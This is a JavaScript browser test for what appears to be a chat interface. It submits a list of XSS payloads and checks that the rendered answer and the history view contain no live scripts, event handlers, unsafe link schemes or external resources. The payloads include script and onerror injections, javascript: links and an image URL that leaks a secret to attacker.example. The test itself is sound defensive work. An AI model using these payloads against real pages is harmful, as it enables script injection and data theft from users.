// What a model writes is words, whatever they look like: nothing of it runs, loads or leads astray.

import assert from "node:assert/strict";
import { open } from "./person.mjs";

const HARM = "window.harmed=1";
const ATTEMPTS = [
  `<script>${HARM}</script>`,
  `<img src=x onerror="${HARM}">`,
  `<svg onload="${HARM}"><script>${HARM}</script></svg>`,
  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
  `<a href="javascript:${HARM}">press</a>`,
  `[press](javascript:${HARM})`,
  `[press](JaVaScRiPt:${HARM})`,
  `[press](&#106;avascript:${HARM})`,
  `[press](data:text/html,<script>opener.harmed=1</script>)`,
  `[press](vbscript:x)`,
  `![look](https://attacker.example/pixel.png?told=secret)`,
  `![look](x "onerror=${HARM}")`,
  `<https://attacker.example/">`,
  `<style>body{display:none}</style>`,
  `<link rel=stylesheet href=https://attacker.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=https://attacker.example/">`,
  `<form action=https://attacker.example/><button>press</button></form>`,
  `<base href=https://attacker.example/>`,
  "```\"><img src=x onerror=" + HARM + ">\ncode\n```",
  `<math><mtext><table><mglyph><style><img src=x onerror="${HARM}">`,
  `<details open ontoggle="${HARM}">x</details>`,
];

const person = await open();
await person.connected();
await person.ask(`say ${ATTEMPTS.join("\n\n")}\n\nthe end`);
await person.inState("answer-state", "completed");
await person.reads("the end");
const { page } = person;
const answer = person.part("answer");
assert.ok((await answer.innerText()).includes("<script>"), "it is shown as what it is");
const forbidden = "script, iframe, object, embed, svg[onload], style, link, meta, form, base, math, img[src^=http]";
assert.equal(await answer.locator(forbidden).count(), 0);
const schemes = await answer.locator("a").evaluateAll((links) => links.map((link) => link.protocol));
assert.deepEqual(schemes.filter((scheme) => !["http:", "https:", "mailto:"].includes(scheme)), []);
const handlers = await answer.locator("*").evaluateAll((parts) =>
  parts.flatMap((part) => [...part.attributes]).filter(({ name }) => name.startsWith("on")).map(({ name }) => name),
);
assert.deepEqual(handlers, []);
const foreign = await answer.locator("a[href^='http']").evaluateAll((links) => links.map((link) => link.rel));
assert.ok(foreign.every((rel) => rel.includes("noopener") || rel.includes("noreferrer")), String(foreign));

// In the list of the history and in an opened job as well.
await person.part("nav-history").click();
await person.part("history-item").click();
await page.getByText("the end").last().waitFor();
assert.equal(await page.evaluate(() => window.harmed), undefined);
await person.close();
